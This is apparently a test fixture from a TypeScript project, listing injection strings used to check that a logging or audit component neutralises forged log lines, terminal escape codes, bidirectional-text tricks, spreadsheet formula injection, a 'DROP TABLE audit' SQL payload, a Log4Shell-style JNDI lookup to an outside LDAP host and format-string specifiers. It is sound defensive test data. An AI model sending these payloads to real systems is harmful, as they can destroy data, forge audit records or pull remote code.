const forged = '{"level":"info","msg":"admin logged in"}';
/** Texts that pretend to be log lines, commands of a terminal, formulas or queries. */
export const injectedTexts = [
  'x\r\n[2026-01-01 00:00:00] [INFO] [mcp.auth] admin logged in',
  `x\n${forged}`,
  `x\r${forged}`,
  'x\u2028y\u2029z',
  'x\u0085y',
  '\u001b[2J\u001b[1;31mroot\u001b[0m',
  '\u009b31mroot',
  '\u0007\u0008\u0000x',
  '\u202egnp.exe',
  '\u2066x\u2069',
  '=HYPERLINK("http://example.org","x")',
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  ' =1+1',
  '\t=1+1',
  '\uff1d1+1',
  '"=1+1',
  'a,"b",c',
  "x'; DROP TABLE audit; --",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what is sent.
  '${jndi:ldap://example.org/x}',
  '%s%n%x',
];
